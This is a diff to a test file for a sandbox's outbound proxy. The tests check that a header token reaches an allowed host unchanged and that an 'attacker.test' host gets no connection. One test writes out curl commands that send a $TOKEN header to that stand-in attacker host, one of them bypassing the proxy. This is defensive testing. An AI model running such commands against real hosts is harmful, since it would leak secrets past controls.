@@ -130,14 +130,14 @@ describe('injection through real clients in a sandbox', () => {
   });
 
   test('SOCKS5 reaches an allowed host but is never intercepted: the sentinel stays a sentinel', async () => {
-    const result = await runSandboxed(run, 'curl -sS -o /dev/null --socks5-hostname 127.0.0.1:3128 -H "X: $TOKEN" http://allowed.test/socks', { TOKEN: sentinel });
+    const result = await runSandboxed(run, 'curl -sS -o /dev/null --proxy "$ALL_PROXY" -H "X: $TOKEN" http://allowed.test/socks', { TOKEN: sentinel });
     expect(result.stderr).toBe('');
     expect(allowed.seen.map((s) => s.headers['x'])).toEqual([sentinel]);
     expect(decisions).toEqual([expect.objectContaining({ via: 'socks', host: 'allowed.test', port: 80, allowed: true })]);
   });
 
   test('the attacker service, not on the allowlist, receives no connection at all', async () => {
-    const script = 'curl -sS -H "X: $TOKEN" https://attacker.test/ ; curl -sS --socks5-hostname 127.0.0.1:3128 http://attacker.test/ ; curl -sS --noproxy "*" https://attacker.test/; echo done';
+    const script = 'curl -sS -H "X: $TOKEN" https://attacker.test/ ; curl -sS --proxy "$ALL_PROXY" http://attacker.test/ ; curl -sS --noproxy "*" https://attacker.test/; echo done';
     const result = await runSandboxed(run, script, { TOKEN: sentinel });
     expect(result.stdout).toContain('done');
     expect(attacker.connections).toBe(0);
